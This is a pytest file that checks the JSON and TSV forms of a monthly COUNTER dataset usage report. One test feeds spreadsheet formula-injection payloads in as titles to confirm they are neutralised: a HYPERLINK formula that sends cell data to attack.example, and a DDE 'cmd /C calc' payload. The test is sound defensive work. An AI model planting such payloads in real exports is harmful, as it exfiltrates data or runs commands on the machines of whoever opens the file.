"""The COUNTER report of a month, by value and by schema."""

import csv
import datetime as dt
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import pyarrow as pa
import pytest
from little_log import (
    added_up,
    count_requests,
    counted_day,
    events_of,
    figures,
    requests_of,
    sample_registry,
)

from usage_metrics.counting.counter import USAGE_COUNTER, USAGE_COUNTER_VERSIONS
from usage_metrics.counting.counter_names import METRICS
from usage_metrics.counting.counter_report import (
    Month,
    Usage,
    as_json,
    month_usage,
)
from usage_metrics.counting.counter_tsv import as_tsv as tsv_of
from usage_metrics.counting.datasets import Pattern, Registry
from usage_metrics.counting.grouping import Rows
from usage_metrics.counting.tables import TABLES

SCHEMA = Path(__file__).with_name("dataset_report.schema.json")
FEBRUARY = [dt.date(2022, 2, day) for day in range(1, 29)]
TODAY = dt.date(2022, 3, 1)

LOG = """
    12:00:00  ann      200  /pudl/plants           500
    12:10:00  ann      200  /pudl/plants.json      1000
    12:20:00  ann      200  /pudl/utilities.json   1000
    13:00:00  ann      200  /pudl                  500
    12:00:00  bob      200  /pudl/plants           500
    12:00:00  nobody   200  /pudl/plants.csv       2000
    12:00:00  script   200  /pudl/plants.json      1000
    12:01:00  script   200  /pudl/plants.json      1000
    12:00:00  bot      200  /pudl/plants.json      1000
    12:00:00  script   404  /pudl/nothing.json     100
    12:00:00  ann      200  /                      100
"""


def counted(
    log: str, registry: Registry | None = None
) -> dict[tuple[str, str | None], tuple[int, ...]]:
    """The four metrics of each access method and country."""
    rows = figures("usage_counter", events_of(log, registry)).to_pylist()
    return {
        (row["access_method"], row["country"]): tuple(row[name] for name in METRICS)
        for row in rows
    }


def test_each_metric_counts_what_the_standard_says() -> None:
    assert counted(LOG) == {
        # total and unique investigations, total and unique requests
        ("regular", "US"): (4, 2, 2, 1),
        ("regular", "DE"): (1, 1, 0, 0),
        ("regular", None): (1, 1, 1, 1),
        ("machine", "DE"): (2, 1, 2, 1),
    }


def test_a_dataset_counts_once_a_session_each_for_itself() -> None:
    rows = figures(
        "usage_counter",
        events_of(
            """
            12:00:00  ann  200  /pudl/plants
            12:10:00  ann  200  /ferc1/f1_steam
            12:20:00  ann  200  /pudl/utilities
            """
        ),
    ).to_pylist()
    assert [(row["dataset"], row[METRICS[0]], row[METRICS[1]]) for row in rows] == [
        ("ferc1", 1, 1),
        ("pudl", 2, 1),
    ]


def test_all_ranges_of_an_object_are_volume_and_a_share_of_downloads() -> None:
    (row,) = figures(
        "usage_counter",
        events_of(
            """
            10:00:00  script  200  /pudl.db  1000
            12:00:00  script  206  /pudl.db  300
            12:10:00  script  206  /pudl.db  450
            """
        ),
    ).to_pylist()
    assert (row["total_dataset_requests"], row["volume"]) == (2, 1750)
    assert (row["range_bytes"], row["range_downloads"]) == (750, 0.75)


def test_without_a_whole_response_the_share_of_downloads_is_unknown() -> None:
    events = events_of("12:00:00  script  206  /pudl.db  300")
    (row,) = figures("usage_counter", events).to_pylist()
    assert (row["range_bytes"], row["range_downloads"]) == (300, None)


def test_where_the_log_says_how_large_an_object_is_no_whole_response_is_needed() -> (
    None
):
    today, following = requests_of(
        """
        12:00:00  script  206  /pudl.db  300
        12:10:00  script  206  /pudl.db  1500
        12:20:00  script  200  /pudl.db  10
        12:30:00  script  206  /pudl.db  5
        """
    )
    today = today.append_column("object_size", pa.array([1000, 1000, 1000, None]))
    events = count_requests(today, following, sample_registry())
    (row,) = figures("usage_counter", events).to_pylist()
    # Several ranges in a response are at most one download; the last range is of an
    # object whose size only a whole response tells.
    assert row["range_downloads"] == 0.3 + 1 + 0.5


def with_versions() -> Registry:
    """A registry with a dataset and two versions of it."""
    registry = sample_registry()
    trees = replace(
        registry.datasets[0],
        id="trees",
        doi="10.5072/trees",
        requests=(),
        investigations=(),
    )
    versions = [
        replace(
            trees,
            version=version,
            doi=f"10.5072/trees.{version}",
            requests=(Pattern(rf"/trees/v{version}\.csv"),),
            investigations=(Pattern(rf"/trees/v{version}"),),
        )
        for version in ("1", "2")
    ]
    return replace(registry, datasets=(trees, *versions))


def test_a_session_that_saw_two_versions_saw_one_dataset() -> None:
    registry = with_versions()
    events = events_of(
        """
        12:00:00  ann  200  /trees/v1
        12:10:00  ann  200  /trees/v2
        """,
        registry,
    )
    usage = month_usage(
        registry,
        figures("usage_counter", events),
        figures("usage_counter_versions", events),
    )
    unique = ("regular", "unique_dataset_investigations")
    found = {item.version: item.instances[unique] for item in usage}
    assert found == {None: {"US": 1}, "1": {"US": 1}, "2": {"US": 1}}
    versions = [
        dataset.get("dataset-attributes")
        for dataset in report(usage, registry)["report-datasets"]
    ]
    assert versions == [
        None,
        [{"type": "dataset-version", "value": "1"}],
        [{"type": "dataset-version", "value": "2"}],
    ]


def test_use_of_all_versions_needs_an_entry_without_a_version() -> None:
    registry = with_versions()
    events = events_of(
        """
        10:00:00  script  200  /trees/v1.csv
        11:00:00  script  200  /trees/v2.csv
        12:00:00  script  200  /trees/v2.csv
        13:00:00  script  200  /trees/v2.csv
        """,
        registry,
    )
    tables = [figures(f"usage_counter{kind}", events) for kind in ("", "_versions")]
    versions = replace(registry, datasets=registry.datasets[1:])
    assert _requests_by_doi(month_usage(registry, *tables)) == [
        ("10.5072/trees", 4),
        ("10.5072/trees.1", 1),
        ("10.5072/trees.2", 3),
    ]
    assert _requests_by_doi(month_usage(versions, *tables)) == [
        ("10.5072/trees.1", 1),
        ("10.5072/trees.2", 3),
    ]


def _requests_by_doi(usage: list[Usage]) -> list[tuple[str, int]]:
    return [
        (dataset["dataset-id"][0]["value"], instance["count"])
        for dataset in report(usage)["report-datasets"]
        for instance in dataset["performance"][0]["instance"]
        if instance["metric-type"] == "total-dataset-requests"
    ]


def month_of(log: str) -> list[Usage]:
    """The use of a month that had two days like this."""
    day = events_of(log)
    tables = [
        added_up(TABLES["usage_counter"].begin(counted_day(day, date=date)), Rows(day))
        for date in FEBRUARY[:2]
    ]
    none = USAGE_COUNTER_VERSIONS.empty_table()
    return month_usage(sample_registry(), pa.concat_tables(tables), none)


def report(usage: list[Usage], registry: Registry | None = None) -> dict[str, Any]:
    month = Month(FEBRUARY[0], FEBRUARY)
    return as_json(usage, registry or sample_registry(), month, TODAY)


def as_tsv(
    usage: list[Usage], registry: Registry, month: Month, created: dt.date
) -> str:
    return tsv_of(as_json(usage, registry, month, created))


def test_the_json_says_what_was_counted() -> None:
    (pudl,) = report(month_of(LOG))["report-datasets"]
    assert pudl["dataset-title"].startswith("Public Utility Data Liberation")
    assert pudl["dataset-id"] == [
        {"type": "uri", "value": "https://data.catalyst.coop/pudl"}
    ]
    (performance,) = pudl["performance"]
    assert performance["period"] == {
        "begin-date": "2022-02-01",
        "end-date": "2022-02-28",
    }
    assert [
        (i["access-method"], i["metric-type"], i["count"], i["country-counts"])
        for i in performance["instance"]
    ] == [
        ("regular", "total-dataset-investigations", 12, {"de": 2, "us": 8}),
        ("regular", "unique-dataset-investigations", 8, {"de": 2, "us": 4}),
        ("regular", "total-dataset-requests", 6, {"us": 4}),
        ("regular", "unique-dataset-requests", 4, {"us": 2}),
        ("machine", "total-dataset-investigations", 4, {"de": 4}),
        ("machine", "unique-dataset-investigations", 2, {"de": 2}),
        ("machine", "total-dataset-requests", 4, {"de": 4}),
        ("machine", "unique-dataset-requests", 2, {"de": 2}),
    ]


def test_the_json_has_the_form_that_datacite_asks_for() -> None:
    schema = json.loads(SCHEMA.read_text())
    document = report(month_of(LOG))
    jsonschema.validate(document, schema)
    document["report-datasets"][0]["performance"][0]["instance"][0]["count"] = 0
    with pytest.raises(jsonschema.ValidationError, match="minimum"):
        jsonschema.validate(document, schema)


def test_an_unknown_country_is_left_out_and_still_counts() -> None:
    (pudl,) = report(month_of("12:00:00 nobody 200 /pudl"))["report-datasets"]
    assert pudl["performance"][0]["instance"] == [
        {"metric-type": metric, "access-method": "regular", "count": 2}
        for metric in ("total-dataset-investigations", "unique-dataset-investigations")
    ]


@pytest.mark.parametrize("code", ["XK", "EU", "us"])
def test_a_code_that_is_not_in_iso_3166_is_left_out_and_still_counts(code: str) -> None:
    key, dataset = ("regular", METRICS[0]), sample_registry().datasets[0]
    usage = [Usage(dataset, None, {key: {code: 3, "AL": 2}})]
    (reported,) = report(usage)["report-datasets"]
    (instance,) = reported["performance"][0]["instance"]
    assert (instance["count"], instance["country-counts"]) == (5, {"al": 2})


def test_a_month_without_use_has_no_datasets() -> None:
    empty = USAGE_COUNTER.empty_table()
    none = USAGE_COUNTER_VERSIONS.empty_table()
    assert month_usage(sample_registry(), empty, none) == []


def test_a_month_with_all_its_days_carries_no_exception() -> None:
    assert report([])["report-header"]["exceptions"] == []


def test_a_partial_month_carries_the_exception_and_names_the_days() -> None:
    days = [FEBRUARY[0], *FEBRUARY[3:27]]
    document = as_json([], sample_registry(), Month(FEBRUARY[0], days), TODAY)
    (exception,) = document["report-header"]["exceptions"]
    assert exception == {
        "code": 3040,
        "severity": "warning",
        "message": "Partial Data Returned",
        "data": "not counted: 2022-02-02 to 2022-02-03, 2022-02-28",
    }
    jsonschema.validate(document, json.loads(SCHEMA.read_text()))


def test_the_tabular_form_has_header_lines_an_empty_one_and_rows() -> None:
    month = Month(FEBRUARY[0], FEBRUARY[:27])
    text = as_tsv(month_of(LOG), sample_registry(), month, TODAY)
    lines = list(csv.reader(text.splitlines(), delimiter="\t"))
    assert lines[:2] == [
        ["Report_Name", "Dataset Master Report"],
        ["Report_ID", "DSR"],
    ]
    header = dict(lines[:10])
    assert header["Exceptions"] == (
        "3040: Partial Data Returned (not counted: 2022-02-28)"
    )
    assert header["Reporting_Period"] == "2022-02-01 to 2022-02-28"
    assert lines[10] == []
    rows = [dict(zip(lines[11], line, strict=True)) for line in lines[12:]]
    assert [(r["Access_Method"], r["Metric_Type"], r["Feb-2022"]) for r in rows] == [
        ("Regular", "Total_Dataset_Investigations", "12"),
        ("Regular", "Unique_Dataset_Investigations", "8"),
        ("Regular", "Total_Dataset_Requests", "6"),
        ("Regular", "Unique_Dataset_Requests", "4"),
        ("Machine", "Total_Dataset_Investigations", "4"),
        ("Machine", "Unique_Dataset_Investigations", "2"),
        ("Machine", "Total_Dataset_Requests", "4"),
        ("Machine", "Unique_Dataset_Requests", "2"),
    ]
    assert {row["YOP"] for row in rows} == {"0001"}


def test_the_tabular_form_has_every_header_and_every_mandatory_column() -> None:
    text = as_tsv(month_of(LOG), sample_registry(), Month(FEBRUARY[0], FEBRUARY), TODAY)
    lines = list(csv.reader(text.splitlines(), delimiter="\t"))
    assert [line[0] for line in lines[:10]] == [
        *("Report_Name", "Report_ID", "Release", "Metric_Types", "Report_Filters"),
        *("Report_Attributes", "Exceptions", "Reporting_Period", "Created"),
        "Created_By",
    ]
    rows = [dict(zip(lines[11], line, strict=True)) for line in lines[12:]]
    assert rows
    for row in rows:
        assert all(row[name] for name in ("Dataset_Title", "Publisher", "Publisher_ID"))
        assert row["DOI"] or row["URI"]
        assert row["Metric_Type"]
        assert int(row["Reporting_Period_Total"]) == int(row["Feb-2022"]) > 0


def of_title(title: str) -> tuple[list[Usage], Registry]:
    """The use of a dataset whose title and creator are a text, as is the author."""
    known = sample_registry()
    about = replace(known.datasets[0], title=title, creators=(title,))
    usage = [replace(item, dataset=about) for item in month_of(LOG)]
    return usage, replace(known, datasets=(about,), created_by=title)


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://attack.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
    ],
)
def test_no_cell_of_the_tabular_form_is_a_formula_and_the_json_has_the_text(
    formula: str,
) -> None:
    usage, registry = of_title(formula)
    text = as_tsv(usage, registry, Month(FEBRUARY[0], FEBRUARY), TODAY)
    lines = [*csv.reader(io.StringIO(text, newline=""), delimiter="\t")]
    shown = f"'{formula.strip()}"
    assert lines[9] == ["Created_By", shown]
    for line in lines[12:]:
        row = dict(zip(lines[11], line, strict=True))
        assert row["Dataset_Title"] == row["Creators"] == shown
        assert row["Reporting_Period_Total"].isdigit()
    (dataset,) = report(usage, registry)["report-datasets"]
    assert dataset["dataset-title"] == formula


def test_a_title_with_such_a_sign_inside_is_as_it_was() -> None:
    usage, registry = of_title("Rivers = levels - @ 3 + gauges")
    text = as_tsv(usage, registry, Month(FEBRUARY[0], FEBRUARY), TODAY)
    assert "\nRivers = levels - @ 3 + gauges\t" in text


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        ("urn", "urn:isbn:1", "urn:isbn:1"),
        ("urn", "https://catalyst.coop", "urn:https://catalyst.coop"),
        ("grid", "grid.5386.8", "grid:grid.5386.8"),
    ],
)
def test_a_publisher_is_named_with_the_kind_of_its_id(
    kind: str, value: str, shown: str
) -> None:
    known = sample_registry()
    publisher = {"type": kind, "value": value}
    datasets = tuple(replace(d, publisher_id=publisher) for d in known.datasets)
    usage = [
        replace(item, dataset=replace(item.dataset, publisher_id=publisher))
        for item in month_of(LOG)
    ]
    month = Month(FEBRUARY[0], FEBRUARY)
    text = as_tsv(usage, replace(known, datasets=datasets), month, TODAY)
    assert list(csv.reader(text.splitlines(), delimiter="\t"))[12][2] == shown


def test_a_title_over_two_lines_is_one_cell_of_one_line() -> None:
    usage, registry = of_title("Rivers\r\nand\ttheir levels\r")
    text = as_tsv(usage, registry, Month(FEBRUARY[0], FEBRUARY), TODAY)
    assert "\r" not in text
    assert "\nRivers and their levels\t" in text
